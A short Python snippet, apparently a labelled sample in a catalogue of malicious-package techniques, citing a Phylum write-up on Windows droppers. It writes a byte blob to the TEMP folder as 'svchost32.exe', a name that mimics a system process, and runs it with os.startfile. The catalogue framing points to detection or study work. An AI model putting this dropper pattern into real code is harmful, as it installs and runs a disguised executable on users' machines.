# technique: os.startfile on a dropped executable (Windows)
# class: lowlevel
# source: Phylum, "EsqueleSquad" write-up (Windows droppers run with startfile)
# declares: fs-write
import os


def finish(blob: bytes):
    path = os.path.join(os.getenv("TEMP", "."), "svchost32.exe")
    with open(path, "wb") as fh:
        fh.write(blob)
    os.startfile(path)
